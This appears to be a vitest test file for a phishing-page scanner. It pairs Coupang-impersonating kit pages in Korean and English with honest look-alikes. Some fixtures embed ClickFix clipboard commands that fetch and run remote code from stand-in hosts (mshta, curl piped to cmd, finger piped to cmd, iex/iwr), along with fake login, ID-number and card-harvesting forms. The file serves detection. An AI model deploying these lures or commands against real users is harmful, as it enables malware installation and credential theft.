import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { scanPage } from '../../lib/page/index';
import { warnAtRisk } from '../../lib/page/at-risk';
import { parse } from './helpers';

/**
 * Author R's half (frozen-r, scored once: 78/110 caught, 4/110 flagged in Node), taken by class with pages written
 * apart from it; next to each kit the honest page that shares its words or its shape, which must stay clean.
 */
const page = (title: string, body: string, lang = 'ko') =>
  `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://x.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });

describe("author R's kits", () => {
  it('reads the first <h3> as the main heading of a page that has no <h1> or <h2>', () => {
    const kit = page(
      '등록',
      '<div><h3>쿠팡 기프트카드 등록</h3><p>선물받은 카드가 등록되지 않았습니다. 카드 뒷면 번호로 다시 등록하세요.</p>' +
        '<input placeholder="PIN 16자리"><input placeholder="휴대폰"><button>등록</button>' +
        '<h4>자주 묻는 질문</h4></div>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
    // under a page's own <h2>, the same <h3> is a section of that page, as before
    const shop = page(
      '선물함 - 도담몰',
      '<h2>도담몰 선물함</h2><h3>쿠팡 기프트카드 등록</h3><p>다른 쇼핑몰 상품권은 등록되지 않습니다.</p>' +
        '<input placeholder="상품권 PIN"><button>등록</button>',
    );
    expect(scan(shop).verdict).toBe('clean');
  });

  it("reads a main heading that opens with the brand or its service and offers a lure's gift as the page's slot", () => {
    const en = page(
      'Pass',
      '<h3>Coupang Play — free season pass for members</h3><p>Confirm your phone to receive the pass.</p>' +
        '<input placeholder="Phone number"><input placeholder="Carrier"><input placeholder="Date of birth"><button>Send code</button>',
      'en',
    );
    expect(scan(en).verdict).toBe('suspicious-page');
    const push = page(
      '쿠폰',
      '<h1>쿠팡이츠 배달비 무료 쿠폰 5장</h1><p>위 알림창에서 <b>허용</b>을 누르면 쿠폰이 바로 지급됩니다.</p>' +
        '<script>Notification.requestPermission()</script>',
    );
    expect(scan(push).verdict).toBe('suspicious-page');
    // a guide to the same gift, a story about the scam, and a warning are not the brand's page
    const guide = page(
      '알뜰살뜰 블로그',
      '<h1>쿠팡이츠 무료배달 쿠폰 받는 방법</h1><p>앱 알림을 허용하면 쿠폰 소식을 받을 수 있어요.</p>' +
        '<input placeholder="댓글 작성자"><input type="password" placeholder="댓글 비밀번호">',
    );
    expect(scan(guide).verdict).toBe('clean');
    const story = page(
      '오늘의 IT',
      '<h1>쿠팡 보상금 문자 링크, 직접 눌러봤습니다</h1><p>가짜 페이지는 로그인 정보를 물었습니다. 절대 입력하지 마세요.</p>' +
        '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>댓글 로그인</button></form>',
    );
    expect(scan(story).verdict).toBe('clean');
  });

  it('reads the step a button shows right after itself (this.nextElementSibling) as asked', () => {
    const kit = page(
      '보상',
      '<p style="font:800 22px sans-serif">쿠팡이츠</p><h3>배달 파손 보상금 지급</h3><p>보상금 지급을 위해 본인 인증을 진행하세요.</p>' +
        '<input placeholder="휴대폰 번호">' +
        `<button onclick="this.nextElementSibling.style.display='block'">인증번호 받기</button>` +
        '<div style="display:none"><input placeholder="인증번호"><input placeholder="입금받을 계좌번호"><button>완료</button></div>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
    // a nameless hidden block no button shows is still not read as asked
    const idle = kit.replace(`onclick="this.nextElementSibling.style.display='block'"`, '');
    expect(scan(idle).verdict).toBe('clean');
    // an honest FAQ whose answers open the same way asks nothing
    const faq = page(
      '자주 묻는 질문 - 한결택배',
      '<h1>한결택배 자주 묻는 질문</h1><p>쿠팡에서 산 상품의 반품은 쿠팡 앱에서 신청하세요.</p>' +
        `<button onclick="this.nextElementSibling.style.display='block'">운송장 번호는 어디 있나요?</button>` +
        '<div style="display:none"><p>상자 위 송장에 적혀 있습니다.</p></div>',
    );
    expect(scan(faq).verdict).toBe('clean');
  });
  it('reads a ClickFix kit whose button copies the command in its onclick, or whose command fetches and runs a program from the Run box', () => {
    const steps =
      '<ol><li><kbd>Win</kbd> + <kbd>R</kbd> 을 누르세요</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> 로 붙여 넣으세요</li><li><kbd>Enter</kbd></li></ol>';
    const check = page(
      '보안 확인',
      `<div class="logo">쿠팡</div><h2>쿠팡 보안 확인</h2><p>☑ 로봇이 아닙니다</p>${steps}` +
        `<button onclick="navigator.clipboard.writeText(k)">확인 시작</button><script>var k='mshta https://v.kit.example/a.hta';</script>`,
    );
    expect(scan(check).verdict).toBe('suspicious-page');
    const seller = page(
      '판매자 인증',
      `<h2>쿠팡 WING 판매자 보안 인증</h2><p>아래 버튼을 누른 뒤 <b>Windows 키 + R</b>, <b>Ctrl + V</b>, <b>Enter</b>.</p>` +
        `<button id="go">인증</button><script>go.onclick=()=>navigator.clipboard.writeText("cmd /c curl -s kit.example/x|cmd")</script>`,
    );
    expect(scan(seller).verdict).toBe('suspicious-page');
    // a how-to that has the reader paste a system tool's name into the Run box verifies nothing and fetches nothing
    const howTo = page(
      '프로그램 제거 방법 - 컴알못 블로그',
      `<h1>쿠팡 PC 알림 프로그램 지우는 법</h1><p>${'<b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣은 뒤 Enter.'}</p>` +
        `<button onclick="navigator.clipboard.writeText('appwiz.cpl')">명령 복사</button>`,
    );
    expect(scan(howTo).verdict).toBe('clean');
    // a seller tool's install line pasted into PowerShell, not the Run box
    const install = page(
      '설치 - 주문모아',
      `<h1>주문모아 설치</h1><p>쿠팡·스마트스토어 주문을 한곳에 모읍니다. PowerShell 을 열고 아래 명령을 붙여 넣으세요.</p>` +
        `<pre>iwr -useb get.jumunmoa.example/install.ps1 | iex</pre><button onclick="navigator.clipboard.writeText('iwr -useb get.jumunmoa.example/install.ps1 | iex')">복사</button>`,
    );
    expect(scan(install).verdict).toBe('clean');
  });
  it('reads a box whose letters CSS draws as dots as a password box, an input or a contenteditable block', () => {
    const input = page(
      '로그인',
      '<div class="logo">COUPANG</div><p>회원 로그인</p><input placeholder="아이디"><input style="-webkit-text-security:disc" placeholder="">' +
        '<button>로그인</button>',
    );
    expect(scan(input).verdict).toBe('suspicious-page');
    const drawn = page(
      '로그인',
      '<div class="logo">COUPANG</div><p>회원 로그인</p><div contenteditable="true" data-ph="아이디"></div>' +
        '<div contenteditable="true" style="min-height:18px; -webkit-text-security: circle"></div><div role="button">로그인</div>',
    );
    expect(scan(drawn).verdict).toBe('suspicious-page');
    // a shop's own login masked the same way is its own
    const shop = page(
      '하루마켓 로그인',
      '<header class="logo">하루마켓</header><h1>하루마켓 로그인</h1><p>쿠팡에서 옮겨 오신 분도 하루마켓 계정으로 로그인하세요.</p>' +
        '<input placeholder="아이디"><input style="-webkit-text-security:disc"><button>로그인</button>',
    );
    expect(scan(shop).verdict).toBe('clean');
  });
  it('reads the brand drawn a few letters per pseudo-element, or painted from one-letter strings joined', () => {
    const css = page(
      '계정 재확인',
      '<style>.m i:nth-child(1)::before{content:"\\43\\6f"}.m i:nth-child(2)::before{content:"\\75\\70"}.m i:nth-child(3)::before{content:"\\61\\6e\\67"}</style>' +
        '<div class="m"><i></i><i></i><i></i></div><p>계정이 잠겼습니다. 본인 확인 후 해제됩니다.</p>' +
        '<input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>잠금 해제</button>',
    );
    expect(scan(css).verdict).toBe('suspicious-page');
    const canvas = page(
      '피해 조회',
      '<div id="lg"></div><h3>피해 사실 조회</h3><input placeholder="이름"><input placeholder="주민등록번호 앞자리-뒷자리">' +
        "<script>var c=document.createElement('canvas');var g=c.getContext('2d');g.fillText(['C','o','u','p','a','n','g'].join(''),9,30);lg.appendChild(c)</script>",
    );
    expect(scan(canvas).verdict).toBe('suspicious-page');
    // an icon font's glyphs and a chart's axis letters are no name
    const icons = page(
      '도담몰 로그인',
      '<style>.i1::before{content:"\\e900"}.i2::before{content:"\\e901"}.i3::before{content:"▶"}</style>' +
        '<header>도담몰</header><h1>도담몰 로그인</h1><p>쿠팡처럼 빠른 배송!</p><i class="i1"></i><i class="i2"></i><i class="i3"></i>' +
        '<input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button>',
    );
    expect(scan(icons).verdict).toBe('clean');
  });
  it("reads a box for a text message pasted whole, the brand's code in it, as asking for the code", () => {
    const kit = page(
      '본인 확인',
      '<h3>본인 확인</h3><p>새 기기에서 로그인했습니다. 문자로 받은 [쿠팡] 인증번호를 그대로 붙여 넣어 주세요.</p>' +
        '<textarea placeholder="[Web발신] [쿠팡] 인증번호 [123456]"></textarea><button>확인</button>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
    // a message box that tells the reader what not to write asks nothing
    const ask = page(
      '문의하기 - 다온택배',
      '<header>다온택배</header><h1>문의하기</h1><p>쿠팡 주문 건도 문의하실 수 있습니다.</p>' +
        '<textarea placeholder="문의 내용 (인증번호, 비밀번호 등은 적지 마세요)"></textarea><button>보내기</button>',
    );
    expect(scan(ask).verdict).toBe('clean');
  });

  it("reads a main heading that gives notice in the brand's name as its slot", () => {
    const kit = page(
      '결제',
      '<h3>쿠팡 회원 계정 보안 강화 조치 안내</h3><p>새 보안 정책에 따라 다시 로그인해 주세요.</p>' +
        '<form><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>확인</button></form>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
    const guide = page(
      '생활 꿀팁',
      '<h1>쿠팡 회원 계정 보안 강화 안내 문자 받는 방법</h1><p>앱 설정에서 끌 수 있어요.</p>' +
        '<form><input placeholder="닉네임"><input type="password" placeholder="댓글 비밀번호"><textarea placeholder="댓글"></textarea><button>댓글 등록</button></form>',
    );
    expect(scan(guide).verdict).toBe('clean');
  });

  it('reads a hidden pop-up its button shows through the global its id makes (w.hidden = false)', () => {
    const kit = page(
      'WOW 이벤트',
      '<h3>와우 회원 전용 추첨</h3><button onclick="w.hidden=false">회원 확인</button>' +
        '<div id="w" hidden><div>🔒 login.coupang.com/login</div><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>로그인</button></div>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
    const faq = page(
      '자주 묻는 질문 - 하루마켓',
      '<header>하루마켓</header><h1>자주 묻는 질문</h1><button onclick="a1.hidden=false">쿠팡과 무엇이 다른가요?</button>' +
        '<div id="a1" hidden><p>하루마켓은 동네 가게 상품만 팝니다.</p></div>',
    );
    expect(scan(faq).verdict).toBe('clean');
  });
  it('reads a code drawn only in pixels as a QR hand-off where the words send the reader to the phone or to a secret', () => {
    const qr =
      '<svg width="120" height="120"><rect x="0" y="0" width="30" height="30"/><rect x="90" y="0" width="30" height="30"/><rect x="0" y="90" width="30" height="30"/></svg>';
    const en = page(
      'Scan',
      `<h3>Rocket delivery — verify on your phone</h3><p>Address changes can only be made in the app. Scan the code with your phone camera.</p>${qr}<p>Coupang Customer Care</p>`,
      'en',
    );
    expect(scan(en).verdict).toBe('suspicious-page');
    const ko = page(
      '환불',
      `<p class="logo">쿠팡페이 환불 승인</p><p>환불 금액 52,000원</p>${qr}<p>휴대폰으로 스캔 후 결제 비밀번호를 입력하면 환불이 완료됩니다.</p>`,
    );
    expect(scan(ko).verdict).toBe('suspicious-page');
    // a TV maker's page for the brand's app and a payment guide under its own name
    const tv = page(
      'Sign in on TV - Lumina TV Help',
      `<header>Lumina TV Help</header><h1>Sign in to streaming apps on Lumina TV</h1><p>In the Coupang Play app on your TV, choose Sign in. Scan the code with your phone camera and continue on your phone.</p>${qr}`,
      'en',
    );
    expect(scan(tv).verdict).toBe('clean');
    const guide = page(
      '간편결제 쓰는 법 - 알뜰생활',
      `<header>알뜰생활</header><h1>매장에서 간편결제 쓰는 법</h1><p>쿠팡페이, 네이버페이 모두 비슷해요. 휴대폰으로 스캔 후 결제 비밀번호를 입력하면 끝.</p>${qr}`,
    );
    expect(scan(guide).verdict).toBe('clean');
  });
});

describe("author R's honest pages", () => {
  it("does not read the brand's account as asked where the page disowns it", () => {
    const ko = page(
      '값새 로그인',
      '<header>값새 가격 알림</header><h2>로그인</h2><p>쿠팡·옥션 가격이 내려가면 알려 드려요. (쿠팡 계정이 아닌 값새 계정으로 로그인)</p>' +
        '<form><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>로그인</button></form>',
    );
    expect(scan(ko).verdict).toBe('clean');
    const en = page(
      'Coupang price alerts',
      '<header>DropDing</header><h2>Watch Coupang prices</h2><p>Sign in to keep your alerts. We never ask for your Coupang password.</p>' +
        '<form><input placeholder="Email"><input type="password" placeholder="Password"><button>Sign in</button></form>',
      'en',
    );
    expect(scan(en).verdict).toBe('clean');
    // a kit that asks for the brand's password, with the same promise elsewhere on the page
    const kit = page(
      'Coupang',
      '<h2>Coupang</h2><p>Coupang never asks for your password by text.</p>' +
        '<form><p>Enter your Coupang password to release the refund.</p><input placeholder="Email"><input type="password" placeholder="Coupang password"><button>Confirm</button></form>',
      'en',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
  });

  it('reads "unrelated to the brand" in a sentence as no claim to be it', () => {
    const quote = page(
      '보험료 계산',
      '<header>미소손해보험</header><h2>보험료 계산</h2><input placeholder="이름"><input placeholder="주민등록번호 앞 6자리 - 뒤 1자리">' +
        '<input placeholder="휴대폰"><button>계산하기</button><p>이 상품은 쿠팡과 무관한 당사 상품입니다.</p>',
    );
    expect(scan(quote).verdict).toBe('clean');
    // the brand's own voice with the same boxes
    const kit = page(
      '본인 확인',
      '<h2>본인 확인</h2><p>쿠팡 보상팀입니다. 보상금 지급을 위해 본인 확인이 필요합니다.</p><input placeholder="이름">' +
        '<input placeholder="주민등록번호 앞 6자리 - 뒤 7자리"><input placeholder="휴대폰"><button>확인</button>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
  });

  it('reads the brand named among those who never ask as advice, and the brand impersonated as the victim', () => {
    const remote = page(
      'Remote help',
      '<header>Byte Clinic Busan</header><h2>Start a remote session</h2>' +
        '<p>Only while you are on the phone with our technician. Coupang, banks and police never ask you to install remote apps.</p>' +
        '<a href="/dl/byteclinic-remote.exe">Download</a>',
      'en',
    );
    expect(scan(remote).verdict).toBe('clean');
    const claim = page(
      '보험금 청구',
      '<header>든든화재</header><h2>보험금 청구</h2><input placeholder="증권번호"><input placeholder="피보험자 성명">' +
        '<input placeholder="수령 계좌"><p>쿠팡 사칭 문자 등 피해 경위를 적어 주세요.</p><textarea></textarea><button>청구</button>',
    );
    const v = scan(claim);
    expect(v.verdict).toBe('clean');
    expect(warnAtRisk(v, 'bank')).toBe(false);
    // the brand's own support offering the same download in its voice
    const kit = page(
      'Coupang security',
      '<h2>Coupang security check</h2><p>Coupang support here. Install our remote tool so an agent can secure your account.</p>' +
        '<a href="/dl/cp-remote.exe">Download</a><input placeholder="Card number"><button>Verify</button>',
      'en',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
  });
});

describe('written against the page18 rules (red team)', () => {
  it("never lets the box's own label disown the brand's password it asks for", () => {
    const ko = page(
      '쿠팡 계정 확인',
      '<h2>계정 확인</h2><form><input placeholder="쿠팡 아이디"><input type="password" placeholder="문자로는 절대 묻지 않는 쿠팡 비밀번호"><button>확인</button></form>',
    );
    expect(scan(ko).verdict).toBe('suspicious-page');
    const en = page(
      'Coupang account check',
      '<h2>Account check</h2><form><input placeholder="Email"><input type="password" placeholder="Never asked by SMS: Coupang password"><button>Check</button></form>',
      'en',
    );
    expect(scan(en).verdict).toBe('suspicious-page');
  });

  it('does not let advice or a victim line clear hard data asked on a page that shows no name of its own', () => {
    const kit = page(
      '결제 차단',
      '<h2>결제 차단 등록</h2><p>쿠팡 사칭 결제 차단 시스템이 작동 중입니다. 쿠팡, 은행, 경찰은 절대 앱 설치를 요구하지 않습니다.</p>' +
        '<input placeholder="카드번호 16자리"><input placeholder="CVC"><input placeholder="주민등록번호 앞 6자리 - 뒤 7자리"><button>등록</button>',
    );
    expect(scan(kit).verdict).toBe('suspicious-page');
  });

  it('reads more fetch-and-run commands, and a password box masked by a stylesheet class', () => {
    const steps = '<p><b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣은 뒤 Enter.</p>';
    for (const cmd of [
      'cmd /c finger view@203.0.113.9 | cmd',
      'powershell -c iex(iwr -useb kit.example/a)',
    ]) {
      const kit = page(
        '영수증',
        `<div class="logo">COUPANG</div><h2>영수증 보기 오류</h2>${steps}<button onclick="navigator.clipboard.writeText('${cmd}')">복구</button>`,
      );
      expect(scan(kit).verdict).toBe('suspicious-page');
    }
    const styled = page(
      '로그인',
      '<style>.k2{-webkit-text-security:disc}</style><div class="logo">COUPANG</div><p>회원 로그인</p>' +
        '<input placeholder="아이디"><input class="in k2"><button>로그인</button>',
    );
    expect(scan(styled).verdict).toBe('suspicious-page');
  });

  it("keeps a board's post titles, a seller's own event, a tool's install line and a price alert clean", () => {
    const board = page(
      '짠돌이 장터',
      '<form action="/login"><input placeholder="아이디"><input type="password" placeholder="비밀번호"><button>로그인</button></form>' +
        '<h3>쿠팡 로켓와우 반품비 무료 쿠폰 (전원)</h3><p>자유게시판 · 절약왕 · 12.03 · 조회 530</p><p>앱 쿠폰함에 들어와 있어요.</p>',
    );
    expect(scan(board).verdict).toBe('clean');
    const seller = page(
      '리뷰 이벤트',
      '<h3>쿠팡 구매 고객 사진 후기 이벤트 – 머그컵 선물</h3><p>쿠팡에서 솔향공방 상품을 사신 분께 머그컵을 보내 드려요.</p>' +
        '<form><input placeholder="받는 분"><input type="tel" placeholder="연락처"><input placeholder="받을 주소"><button>신청</button></form>',
    );
    expect(scan(seller).verdict).toBe('clean');
    const tool = page(
      '설치 안내',
      '<h1>정산도우미 설치</h1><p>쿠팡·스마트스토어 정산을 한 번에. <b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣으세요.</p>' +
        `<button onclick="navigator.clipboard.writeText('powershell -c irm get.jeongsan.example/i.ps1 | iex')">설치 명령 복사</button>`,
    );
    expect(scan(tool).verdict).toBe('clean');
    const alert = page(
      '최저가 알림',
      '<h3>쿠팡 최저가 알림</h3><p>관심 상품 가격이 내려가면 알려 드려요. 휴대폰 번호와 간편 번호 4자리로 목록을 불러옵니다.</p>' +
        '<form><input type="tel" placeholder="휴대폰 번호"><input maxlength="4" style="-webkit-text-security:disc" placeholder="간편 번호 4자리"><button>불러오기</button></form>' +
        '<p>© 2026 값쪼기 · 개인 개발자</p>',
    );
    expect(scan(alert).verdict).toBe('clean');
  });
});

describe('the second chance on a price tracker', () => {
  it("does not read the brand in a list of shops as inviting the brand's login", () => {
    const tracker = page(
      '값새 로그인',
      '<h2>로그인</h2><p>쿠팡·11번가·G마켓 가격 변동 알림을 받으려면 로그인하세요. (쿠팡 계정이 아닌 값새 계정입니다)</p>' +
        '<form><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>로그인</button></form>',
    );
    const v = scan(tracker);
    expect(v.verdict).toBe('clean');
    expect(warnAtRisk(v, 'password')).toBe(false);
    // the brand alone in the same sentence still invites its login
    const kit = page(
      '로그인',
      '<h2>로그인</h2><p>쿠팡 보상금 알림을 받으려면 로그인하세요.</p>' +
        '<form><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>로그인</button></form>',
    );
    expect(warnAtRisk(scan(kit), 'password')).toBe(true);
  });
});
